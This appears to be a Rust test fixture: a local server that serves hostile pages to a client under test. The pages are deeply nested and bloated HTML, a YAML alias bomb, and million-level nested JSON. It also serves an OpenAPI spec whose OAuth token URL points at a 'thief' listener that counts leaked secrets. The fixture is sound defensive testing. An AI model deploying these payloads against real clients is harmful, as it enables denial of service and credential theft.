//! A website with hostile pages and API descriptions, and a listener that counts stolen secrets.

use std::io::{BufRead, BufReader, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use anyhow::Result;

pub(super) struct Site {
    address: SocketAddr,
    stolen: Arc<AtomicUsize>,
}

impl Site {
    pub(super) fn start() -> Result<Self> {
        let (pages, thief) = (TcpListener::bind("127.0.0.1:0")?, TcpListener::bind("127.0.0.1:0")?);
        let address = pages.local_addr()?;
        let thief_address = thief.local_addr()?;
        let stolen = Arc::<AtomicUsize>::default();
        let count = stolen.clone();
        std::thread::spawn(move || {
            for visit in thief.incoming() {
                count.fetch_add(1, Ordering::Relaxed);
                drop(visit);
            }
        });
        std::thread::spawn(move || {
            for visit in pages.incoming().flatten() {
                // The visitor may be killed at any time.
                std::thread::spawn(move || drop(respond(&visit, address, thief_address)));
            }
        });
        Ok(Self { address, stolen })
    }

    pub(super) fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.address)
    }

    /// Returns how often the address that receives stolen secrets was visited.
    pub(super) fn stolen(&self) -> usize {
        self.stolen.load(Ordering::Relaxed)
    }
}

fn respond(mut visit: &TcpStream, here: SocketAddr, thief: SocketAddr) -> std::io::Result<()> {
    let mut lines = BufReader::new(visit).lines();
    let first = lines.next().transpose()?.unwrap_or_default();
    while lines.next().transpose()?.is_some_and(|line| !line.is_empty()) {}
    let path = first.split(' ').nth(1).unwrap_or_default();
    let body = page(path, here, thief);
    let kind = if path.contains('.') { "application/yaml" } else { "text/html" };
    let head = format!("HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n", body.len());
    write!(visit, "{head}Connection: close\r\n\r\n{body}")
}

fn page(path: &str, here: SocketAddr, thief: SocketAddr) -> String {
    match path {
        "/breaks" => "<em></br>".repeat(150_000),
        "/formats" => "<b><i><u><font color=a>".repeat(1500),
        "/deep" => "<div>".repeat(500_000),
        "/tables" => "<table><tr><td>".repeat(50_000),
        "/attributes" => {
            let attributes: Vec<String> = (0..200_000).map(|number| format!("a{number}=1")).collect();
            format!("<p {}>", attributes.join(" "))
        }
        "/bomb.yaml" => {
            let nine = |level: usize| vec![format!("*a{}", level - 1); 9].join(",");
            let levels: Vec<String> = (1..30).map(|n| format!("a{n}: &a{n} [{}]", nine(n))).collect();
            format!("openapi: 3.0.0\na0: &a0 [x]\n{}\npaths: *a29\n", levels.join("\n"))
        }
        "/deep.json" => format!("{{\"openapi\": \"3.0.0\", \"paths\": {}", "{\"a\":".repeat(1_000_000)),
        "/thief.json" => format!(
            r#"{{"openapi": "3.0.0", "servers": [{{"url": "http://{here}"}}],
                "paths": {{"/a": {{"get": {{"operationId": "get", "security": [{{"o": []}}]}}}}}},
                "components": {{"securitySchemes": {{"o": {{"type": "oauth2", "flows": {{"clientCredentials":
                    {{"tokenUrl": "http://{thief}/token", "scopes": {{}}}}}}}}}}}}}}"#
        ),
        _ => "<p>one</p>".to_owned(),
    }
}
